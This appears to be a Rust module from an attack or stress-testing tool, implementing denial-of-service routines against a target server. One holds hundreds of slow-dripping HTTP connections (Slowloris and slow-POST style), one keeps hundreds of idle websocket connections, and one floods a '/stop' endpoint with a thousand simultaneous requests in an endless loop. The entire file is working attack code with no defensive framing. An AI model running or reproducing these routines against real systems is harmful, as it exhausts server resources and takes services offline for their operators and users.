//! Attacks that hold connections, and too many Stops.

use crate::target::Target;
use futures_util::future::join_all;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// Connections that are held at once.
const HELD: usize = 640;
/// Sockets that never greet.
const SOCKETS: usize = 515;
/// Stops at once.
const STOPS: usize = 1_000;
/// Between two bytes of a slow sender.
const DRIP: Duration = Duration::from_millis(200);

/// A third is silent, a third sends its header slowly, a third its body; who is closed comes again.
pub(crate) async fn held(target: Target) {
    let begin = |number: usize| match number % 3 {
        0 => String::new(),
        1 => "GET / HTTP/1.1\r\nX-Slow: ".to_owned(),
        _ => format!(
            "POST /api/import HTTP/1.1\r\nHost: {0}\r\nOrigin: http://{0}\r\n{1}Content-Length: 1000000\r\n\r\n",
            target.address,
            house::host_line(target.address)
        ),
    };
    let all = (0..HELD).map(|number| {
        let (target, begin) = (target.clone(), begin(number));
        async move {
            loop {
                drip(&target, &begin).await;
                tokio::time::sleep(DRIP).await;
            }
        }
    });
    join_all(all.map(tokio::spawn)).await;
}

async fn drip(target: &Target, begin: &str) {
    let Ok(mut stream) = TcpStream::connect(target.address).await else { return };
    let mut sent = stream.write_all(begin.as_bytes()).await;
    while sent.is_ok() {
        tokio::time::sleep(DRIP).await;
        sent = if begin.is_empty() { stream.read_u8().await.map(drop) } else { stream.write_all(b"x").await };
    }
}

/// Sockets that are open and say nothing; who is closed comes again.
pub(crate) async fn half_open(target: Target) {
    let address = target.url();
    let all = (0..SOCKETS).map(|_| {
        let address = address.clone();
        async move {
            loop {
                let Ok(asked) = shell::handshake(&address).await else { continue };
                if let Ok((mut socket, _)) = tokio_tungstenite::connect_async(asked).await {
                    while let Some(Ok(_)) = futures_util::StreamExt::next(&mut socket).await {}
                }
                tokio::time::sleep(DRIP).await;
            }
        }
    });
    join_all(all.map(tokio::spawn)).await;
}

/// A thousand Stops at once, again and again.
pub(crate) async fn storm(target: Target) {
    let request = format!("POST /stop HTTP/1.1\r\nHost: {}\r\nContent-Length: 0\r\n\r\n", target.address);
    loop {
        let press = || async {
            let mut stream = TcpStream::connect(target.address).await?;
            stream.write_all(request.as_bytes()).await?;
            stream.read_to_end(&mut Vec::new()).await
        };
        join_all((0..STOPS).map(|_| press())).await;
        tokio::time::sleep(DRIP).await;
    }
}
